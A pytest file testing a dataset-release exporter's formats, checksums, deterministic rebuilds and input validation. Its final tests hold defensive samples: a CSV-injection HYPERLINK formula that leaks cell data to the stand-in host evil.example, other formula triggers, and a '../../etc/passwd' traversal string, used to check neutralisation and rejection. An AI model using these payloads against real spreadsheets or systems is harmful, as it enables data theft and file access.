"""Release writers: each format read back by its own reader, checksums, byte-identical rebuilds."""

from __future__ import annotations

import csv
import io
import json
import math
import tarfile
import warnings
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest
from PIL import Image
from pycocotools.coco import COCO

from datasets.releases.exporters import (
    COCO_DIR,
    FORMATS,
    MANIFEST,
    PAIR_COLUMNS,
    PAIRS_CSV,
    PAIRS_JSONL,
    PAIRS_PARQUET,
    PARQUET_SCHEMA,
    SHARDS_DIR,
    JsonlSink,
    export_rows,
    normalise_row,
    release_image_path,
    release_sinks,
    verify_manifest,
    write_manifest,
    write_parquet,
    write_webdataset,
)
from datasets.releases.exporters import rows as rows_module
from datasets.releases.exporters.manifest import ERROR_SHA256, ERROR_UNLISTED

ROW_GROUP = 16
SHARD_SAMPLES = 4
LICENCES = [("CC BY 4.0", "https://creativecommons.org/licenses/by/4.0/"), ("CC0", "")]
CAPTIONS = [
    "A dog runs on the beach.",
    'A "quoted", comma-separated caption',
    "Zwei Katzen schlafen auf dem Sofa — später.",
    "一只猫坐在窗台上",
    "Two lines:\nsecond line",
    "Tab\tback\\slash\u2028separator",
]


def make_rows() -> list[dict[str, object]]:
    """Three splits, 10 images each, 2–4 pairs per image, ordered by (split, image_id, pair_id)."""
    rows = []
    pair_id = 0
    for split_index, split in enumerate(("test", "train", "val")):
        for n in range(10):
            image_id = 1000 * (split_index + 1) + 7 * n
            licence, url = LICENCES[n % 2]
            for k in range(2 + n % 3):
                pair_id += 1
                positive = k == 0 or (k == 2 and n % 2 == 0)
                rows.append(
                    {
                        "pair_id": pair_id * 3,
                        "image_id": image_id,
                        "caption_id": 500 + pair_id,
                        "image_path": f"images/{image_id % 256:02x}/{image_id:064x}.png",
                        "image_sha256": f"{image_id:064x}",
                        "caption": CAPTIONS[(pair_id + n) % len(CAPTIONS)],
                        "kind": "positive"
                        if positive
                        else ("hard_negative", "random_negative")[k % 2],
                        "label": 1 if positive else 0,
                        "label_source": ("crowd", "import", "construction", "gold")[k % 4],
                        "confidence": 1 / 3 + k,
                        "n_judgments": 3 * (k % 2),
                        "split": split,
                        "cluster_id": image_id - n % 2,
                        "weight": 1.0 if k else 2.5,
                        "license": licence,
                        "width": 4 + n,
                        "height": 3 + n,
                        "license_url": url,
                        "source_url": f"https://example.org/{image_id}",
                        "original_name": f"IMG_{image_id}.png",
                        "ignored_extra": "not exported",
                    }
                )
    return rows


def png_bytes(row: dict[str, Any]) -> bytes:
    """A tiny PNG whose colour is fixed by the image id (PNG encoding carries no timestamp)."""
    buffer = io.BytesIO()
    Image.new("RGB", (row["width"], row["height"]), (row["image_id"] % 256, 0, 0)).save(
        buffer, "PNG"
    )
    return buffer.getvalue()


def build(directory: Path, rows: list[dict[str, object]]) -> Path:
    sinks = release_sinks(
        directory=directory,
        formats=FORMATS,
        read_image=png_bytes,
        coco_info={"description": "Concord test release", "version": "v1", "year": 2026},
        row_group_size=ROW_GROUP,
        max_samples=SHARD_SAMPLES,
    )
    result = export_rows(rows=iter(rows), sinks=sinks)
    assert result.rows == len(rows)
    write_manifest(directory=directory, release={"project": "demo", "version": "v1"})
    return directory


@pytest.fixture(scope="module")
def source_rows() -> list[dict[str, object]]:
    return make_rows()


@pytest.fixture(scope="module")
def release(tmp_path_factory, source_rows) -> Path:
    return build(tmp_path_factory.mktemp("release"), source_rows)


@pytest.fixture(scope="module")
def expected(source_rows) -> list[dict[str, object]]:
    return [normalise_row(row) for row in source_rows]


def test_jsonl_lines_have_sorted_keys_and_the_pair_columns(release, expected):
    lines = (release / PAIRS_JSONL).read_text(encoding="utf-8").split("\n")[:-1]
    assert len(lines) == len(expected)
    for line, row in zip(lines, expected, strict=True):
        record = json.loads(line)
        assert list(record) == sorted(PAIR_COLUMNS)
        assert record == {name: row[name] for name in PAIR_COLUMNS}
    # floats are rounded once, so every format carries the same short value
    assert json.loads(lines[0])["confidence"] == 0.333333


def test_jsonl_is_exactly_what_json_dumps_writes(release, expected):
    lines = (release / PAIRS_JSONL).read_text(encoding="utf-8").split("\n")
    assert lines.pop() == ""  # every line ends with a newline
    for line, row in zip(lines, expected, strict=True):
        record = {name: row[name] for name in PAIR_COLUMNS}
        assert line == json.dumps(record, sort_keys=True, ensure_ascii=False, separators=(",", ":"))


def test_csv_reads_back_with_the_csv_module(release, expected):
    with open(release / PAIRS_CSV, encoding="utf-8", newline="") as fh:
        records = list(csv.DictReader(fh))
    assert len(records) == len(expected)
    assert list(records[0]) == list(PAIR_COLUMNS)
    for record, row in zip(records, expected, strict=True):
        assert record["caption"] == row["caption"]  # quotes, commas and newlines survive
        assert int(record["pair_id"]) == row["pair_id"]
        assert float(record["confidence"]) == row["confidence"]


def test_parquet_has_the_schema_row_groups_and_values(release, expected):
    parquet = pq.ParquetFile(release / PAIRS_PARQUET)
    assert parquet.schema_arrow.equals(PARQUET_SCHEMA)
    assert parquet.metadata.num_row_groups == math.ceil(len(expected) / ROW_GROUP)
    table = pq.read_table(release / PAIRS_PARQUET)
    assert table.to_pylist() == [{name: row[name] for name in PAIR_COLUMNS} for row in expected]
    frame = pd.read_parquet(release / PAIRS_PARQUET)
    assert list(frame.columns) == list(PAIR_COLUMNS)
    assert frame["label"].sum() == sum(row["label"] for row in expected)
    assert frame.groupby("split")["image_id"].nunique().to_dict() == {
        "test": 10,
        "train": 10,
        "val": 10,
    }


def test_parquet_schema_matches_the_column_contract():
    assert tuple(PARQUET_SCHEMA.names) == PAIR_COLUMNS


def test_coco_files_load_with_pycocotools(release, expected):
    for split in ("test", "train", "val"):
        rows = [row for row in expected if row["split"] == split]
        coco = COCO(str(release / COCO_DIR / f"captions_{split}.json"))
        assert sorted(coco.imgs) == sorted({row["image_id"] for row in rows})
        positives = [row for row in rows if row["label"] == 1]
        assert sorted(coco.anns) == sorted(row["pair_id"] for row in positives)
        first = positives[0]
        annotations = coco.loadAnns(coco.getAnnIds(imgIds=[first["image_id"]]))
        assert first["caption"] in {a["caption"] for a in annotations}
        image = coco.loadImgs([first["image_id"]])[0]
        assert image["file_name"] == first["image_path"]
        assert (image["width"], image["height"]) == (first["width"], first["height"])
        licences = {entry["id"]: entry for entry in coco.dataset["licenses"]}
        assert licences[image["license"]]["name"] == first["license"]
        assert licences[image["license"]]["url"] == first["license_url"]
        assert sorted(licences) == list(range(1, len(LICENCES) + 1))
        assert coco.dataset["info"]["split"] == split


def test_webdataset_shards_iterate_with_webdataset(release, expected):
    wds = pytest.importorskip("webdataset")
    for split in ("test", "train", "val"):
        rows = [row for row in expected if row["split"] == split]
        shards = sorted(str(p) for p in (release / SHARDS_DIR).glob(f"{split}-*.tar"))
        assert len(shards) == math.ceil(10 / SHARD_SAMPLES)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", DeprecationWarning)
            dataset = wds.WebDataset(shards, shardshuffle=False, empty_check=False)
            samples = list(dataset)
        assert [s["__key__"] for s in samples] == [
            f"{image_id:012d}" for image_id in sorted({row["image_id"] for row in rows})
        ]
        for sample in samples:
            meta = json.loads(sample["json"])
            image_rows = [row for row in rows if row["image_id"] == meta["image_id"]]
            assert [p["pair_id"] for p in meta["pairs"]] == [row["pair_id"] for row in image_rows]
            assert meta["captions"] == [row["caption"] for row in image_rows if row["label"] == 1]
            assert sample["png"] == png_bytes(image_rows[0])
            assert Image.open(io.BytesIO(sample["png"])).size == (meta["width"], meta["height"])


def test_tar_headers_carry_no_time_or_owner(release):
    shard = next((release / SHARDS_DIR).glob("train-*.tar"))
    with tarfile.open(shard) as tar:
        for member in tar.getmembers():
            assert (member.mtime, member.uid, member.gid, member.uname, member.gname) == (
                0,
                0,
                0,
                "",
                "",
            )


def test_manifest_lists_every_file_and_verifies(release):
    manifest = json.loads((release / MANIFEST).read_text())
    listed = [entry["path"] for entry in manifest["files"]]
    on_disk = sorted(
        p.relative_to(release).as_posix()
        for p in release.rglob("*")
        if p.is_file() and p.name != MANIFEST
    )
    assert listed == on_disk
    assert manifest["release"] == {"project": "demo", "version": "v1"}
    assert verify_manifest(directory=release) == []


def test_manifest_reports_tampering(tmp_path, source_rows):
    directory = build(tmp_path, source_rows)
    with open(directory / PAIRS_CSV, "r+b") as fh:
        fh.write(b"X")
    (directory / "stray.txt").write_text("hi")
    assert verify_manifest(directory=directory) == [
        ERROR_SHA256.format(path=PAIRS_CSV),
        ERROR_UNLISTED.format(path="stray.txt"),
    ]


def test_rebuild_is_byte_identical(tmp_path, release, source_rows):
    again = build(tmp_path, [dict(row) for row in source_rows])
    assert (again / MANIFEST).read_bytes() == (release / MANIFEST).read_bytes()
    for entry in json.loads((release / MANIFEST).read_text())["files"]:
        assert (again / entry["path"]).read_bytes() == (release / entry["path"]).read_bytes()


@pytest.mark.parametrize(
    ("swap", "message"),
    [
        (lambda rows: [rows[1], rows[0], *rows[2:]], "ordered by pair_id"),
        (lambda rows: [*rows[3:], *rows[:3]], "grouped by split"),
        (
            lambda rows: sorted(rows, key=lambda r: (r["split"], -r["image_id"])),
            "ordered by image_id",
        ),
    ],
)
def test_out_of_order_rows_fail_and_leave_no_files(tmp_path, source_rows, swap, message):
    sinks = release_sinks(directory=tmp_path, read_image=png_bytes, max_samples=SHARD_SAMPLES)
    with pytest.raises(ValueError, match=message):
        export_rows(rows=swap(source_rows), sinks=sinks)
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []


@pytest.mark.parametrize(
    ("change", "error"),
    [
        ({"kind": "negative"}, rows_module.ERROR_UNKNOWN_KIND),
        ({"label_source": "model"}, rows_module.ERROR_UNKNOWN_LABEL_SOURCE),
        ({"split": "dev"}, rows_module.ERROR_UNKNOWN_SPLIT),
        ({"label": 2}, rows_module.ERROR_LABEL),
        ({"confidence": float("nan")}, rows_module.ERROR_NOT_FINITE),
    ],
)
def test_invalid_rows_are_rejected(source_rows, change, error):
    row = {**source_rows[0], **change}
    prefix = error.split("{")[0]
    with pytest.raises(ValueError) as excinfo:
        normalise_row(row)
    assert str(excinfo.value).startswith(prefix)


def test_missing_field_is_named(source_rows):
    row = dict(source_rows[0])
    del row["caption"]
    with pytest.raises(ValueError, match="missing field 'caption'"):
        normalise_row(row)


def test_empty_release_writes_valid_empty_tables(tmp_path):
    write_parquet(path=tmp_path / PAIRS_PARQUET, rows=iter(()))
    assert pq.read_table(tmp_path / PAIRS_PARQUET).num_rows == 0
    export_rows(rows=iter(()), sinks=[JsonlSink(tmp_path / PAIRS_JSONL)])
    assert (tmp_path / PAIRS_JSONL).read_bytes() == b""


def test_shards_roll_over_at_the_byte_limit_and_use_the_path_suffix(tmp_path, source_rows):
    rows = [
        {**row, "image_path": f"https://cdn.example.org/{row['image_id']}.WEBP?sig=1"}
        for row in source_rows
        if row["split"] == "train"
    ]
    limit = 12_000
    write_webdataset(
        directory=tmp_path, rows=iter(rows), read_image=lambda row: b"\0" * 3000, max_bytes=limit
    )
    shards = sorted((tmp_path / SHARDS_DIR).glob("train-*.tar"))
    # a sample is about 5.6 kB (headers, 3 kB of image padded to blocks, its JSON): two per shard
    assert 1 < len(shards) < 10
    names = []
    for shard in shards:
        with tarfile.open(shard) as tar:
            members = tar.getmembers()
        assert sum(512 + -(-m.size // 512) * 512 for m in members) <= limit
        names += [m.name for m in members]
    assert names[:4:2] == ["000000002000.webp", "000000002007.webp"]
    assert len(names) == 2 * 10


def test_release_sinks_rejects_unknown_formats_and_missing_reader(tmp_path):
    with pytest.raises(ValueError, match="Unknown release format 'xml'"):
        release_sinks(directory=tmp_path, formats=["jsonl", "xml"])
    with pytest.raises(ValueError, match="needs read_image"):
        release_sinks(directory=tmp_path, formats=["webdataset"])


def test_release_image_path_is_content_addressed():
    sha = "ab" + "0" * 62
    assert release_image_path(sha256=sha, extension=".JPG") == f"images/ab/{sha}.jpg"
    with pytest.raises(ValueError, match="Not a SHA-256"):
        release_image_path(sha256="../../etc/passwd", extension="jpg")


FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading return",
]


def test_csv_neutralises_formulas_and_other_formats_keep_the_raw_text(tmp_path, source_rows):
    """OWASP's CSV injection rule: a caption or licence a spreadsheet would run as a formula
    reads back from pairs.csv with a leading apostrophe; JSONL and Parquet keep it raw;
    numbers (negative ones included) are untouched."""
    rows = [dict(row) for row in source_rows[: len(FORMULAS)]]
    for row, text in zip(rows, FORMULAS, strict=True):
        row["caption"] = text
        row["license"] = text
    directory = build(tmp_path / "release", rows)
    with open(directory / PAIRS_CSV, encoding="utf-8", newline="") as fh:
        records = list(csv.DictReader(fh))
    expected_rows = [normalise_row(row) for row in rows]
    for record, row in zip(records, expected_rows, strict=True):
        assert record["caption"] == "'" + row["caption"]
        assert record["license"] == "'" + row["license"]
        assert float(record["confidence"]) == row["confidence"]
    jsonl = [json.loads(line) for line in (directory / PAIRS_JSONL).read_text().splitlines()]
    assert [r["caption"] for r in jsonl] == [row["caption"] for row in expected_rows]
    table = pq.read_table(directory / PAIRS_PARQUET).to_pylist()
    assert [r["license"] for r in table] == [row["license"] for row in expected_rows]


def test_spreadsheet_safe_leaves_ordinary_cells():
    from datasets.releases.exporters.tables import spreadsheet_safe

    for value in ("A dog", "", "1-2", "a=b", -1, -0.5, 3):
        assert spreadsheet_safe(value) == value
